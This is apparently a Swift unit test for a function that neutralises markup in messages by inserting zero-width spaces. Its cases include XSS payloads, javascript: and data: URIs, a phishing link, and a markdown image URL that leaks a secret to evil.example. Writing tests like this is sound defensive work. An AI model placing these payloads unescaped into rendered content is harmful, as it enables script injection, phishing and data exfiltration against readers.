import ChannelKit
import Testing

@Suite("Text for inboxes that render markup")
struct MarkupTextTests {
    /// With `·` for the zero-width space.
    static let cases: [(text: String, inert: String)] = [
        ("Hello, Ana!", "Hello, Ana!"), ("", ""), ("1 < 2 > 1, a<1", "1 < 2 > 1, a<1"),
        ("At 3:00: *yes*", "At 3:00: *yes*"),
        ("https://lotus.example/a?b=[1]", "https://lotus.example/a?b=[1]"), ("data: none", "data: none"),
        ("<img src=x onerror=alert(1)>", "<·img src=x onerror=alert(1)>"), ("</p><SCRIPT>", "<·/p><·SCRIPT>"),
        ("<!-- -->", "<·!-- -->"), ("<?xml?>", "<·?xml?>"), ("<!channel>", "<·!channel>"),
        ("<https://evil.example>", "<·https://evil.example>"), ("<<b>>", "<<·b>>"),
        ("[pay here](https://evil.example)", "[pay here]·(https://evil.example)"),
        ("![a](https://evil.example/p?d=secret)", "![a]·(https://evil.example/p?d=secret)"),
        ("[a][b]\n[b]: https://evil.example", "[a]·[b]\n[b]·: https://evil.example"),
        ("[[a](b)](c)", "[[a]·(b)]·(c)"), ("javascript:alert(1)", "javascript·:alert(1)"),
        ("JavaScript:alert(1)", "JavaScript·:alert(1)"), ("data:text/html,x", "data·:text/html,x"),
        ("été <b>", "été <·b>"), ("a](", "a]·("), ("<", "<"), ("]", "]"),
    ]

    @Test(arguments: cases)
    func isInert(_ text: String, _ inert: String) {
        #expect(MarkupText.inert(text) == inert.replacing("·", with: "\u{200B}"))
        #expect(MarkupText.inert(text).replacing("\u{200B}", with: "") == text)
        #expect(MarkupText.inert(MarkupText.inert(text)) == MarkupText.inert(text))
    }
}
